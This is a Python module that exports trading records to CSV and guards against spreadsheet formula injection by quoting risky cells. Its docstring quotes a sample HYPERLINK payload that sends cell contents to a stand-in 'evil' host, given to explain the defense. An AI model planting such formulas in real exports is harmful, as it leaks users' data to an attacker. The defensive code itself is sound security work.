"""CSV export that a spreadsheet opens safely: exact numbers, and no cell it would run as a formula.

CSV injection (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets treat a cell whose text starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, so a symbol, a client order id or a note typed as
``=HYPERLINK("http://evil/?"&A1, "click")`` would run when the file is opened. Every cell written here goes through
``escape_formula``: such a cell is prefixed with a single quote (the spreadsheet shows the text, not a result).

Numbers stay numbers: a cell that is a plain decimal number (``-12.5``, ``-0``, ``0.00000001``; pattern
``-?digits[.digits]``, no exponent, no ``+``) is not a formula in any spreadsheet and is written as is, so a
negative PnL is still summable. Anything else starting with one of those characters gets the quote, including
``+1``, ``-2+3`` and ``-1E5`` (our own Decimals are always written in plain notation, never with an exponent).

The cost of the rule is that a text cell that really starts with ``'`` followed by ``=`` reads back with one more
quote; a reader that wants the original text strips one leading quote from a cell that starts with ``'`` followed
by one of the trigger characters (``unescape_formula``).
"""

from __future__ import annotations

import csv
import dataclasses
import os
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime, timedelta
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import Any

from hexdesk.storage.trades import Trade

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP's list)."""

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def escape_formula(text: str) -> str:
    """``text`` made inert for a spreadsheet: a leading quote if it would run as a formula, else unchanged."""
    if text and text[0] in FORMULA_TRIGGERS and _PLAIN_NUMBER.fullmatch(text) is None:
        return "'" + text
    return text


def unescape_formula(text: str) -> str:
    """The inverse of ``escape_formula`` for a cell read back from one of our files."""
    if len(text) >= 2 and text[0] == "'" and text[1] in FORMULA_TRIGGERS and _PLAIN_NUMBER.fullmatch(text[1:]) is None:
        return text[1:]
    return text


def cell_text(value: Any) -> str:
    """A value as CSV text: Decimals exact in plain notation, enums as their value, booleans ``true``/``false``,
    None empty, datetimes ISO-8601, durations in seconds, sequences joined with ``;``. Not yet escaped."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Enum):
        return str(value.value)
    if isinstance(value, Decimal):
        return format(value, "f")  # exact, never exponent notation: 1E-8 -> 0.00000001
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, timedelta):
        return format(Decimal(str(value.total_seconds())).normalize(), "f")
    if isinstance(value, tuple | list | frozenset | set):
        items = sorted(value, key=str) if isinstance(value, frozenset | set) else value
        return ";".join(cell_text(v) for v in items)
    return str(value)


def cell(value: Any) -> str:
    """A value as a safe CSV cell: ``cell_text`` then ``escape_formula``."""
    return escape_formula(cell_text(value))


def write_csv(path: Path | str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write a header and rows (any values, formatted and escaped by ``cell``); return the number of data rows.

    The file is written as ``<path>.part`` and renamed into place, so a reader never sees half a file, and a
    failure leaves no ``.part`` behind.
    """
    path = Path(path)
    tmp = path.with_name(path.name + ".part")
    count = 0
    try:
        with tmp.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow([cell(h) for h in header])
            for row in rows:
                writer.writerow([cell(v) for v in row])
                count += 1
        os.replace(tmp, path)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    return count


def field_names(row_type: type) -> list[str]:
    """The column names for a dataclass type: its fields, in declaration order."""
    if not (isinstance(row_type, type) and dataclasses.is_dataclass(row_type)):
        raise TypeError(f"{row_type!r} is not a dataclass type")
    return [f.name for f in dataclasses.fields(row_type)]


def export_dataclasses_csv(items: Iterable[Any], path: Path | str, *, row_type: type | None = None) -> int:
    """Write dataclass instances as CSV, one column per field (of ``row_type``, else of the first item).

    With no items and no ``row_type`` the file holds no header (there is nothing to name the columns from).
    """
    items = list(items)
    if row_type is None and items:
        row_type = type(items[0])
    if row_type is None:
        return write_csv(path, [], [])
    names = field_names(row_type)
    for item in items:
        if not isinstance(item, row_type):
            raise TypeError(f"cannot export {type(item).__name__} as {row_type.__name__}")
    return write_csv(path, names, ([getattr(item, n) for n in names] for item in items))


def export_trades_csv(trades: Iterable[Any], path: Path | str, *, row_type: type | None = None) -> int:
    """Write round trips (``storage.trades.Trade`` or any dataclass) as CSV, one column per dataclass field.

    Generic over the fields, so a field added to ``Trade`` appears in the export without touching this code.
    Returns the number of trades written.
    """
    trades = list(trades)
    if row_type is None and not trades:
        row_type = Trade  # the header of an empty export
    return export_dataclasses_csv(trades, path, row_type=row_type)
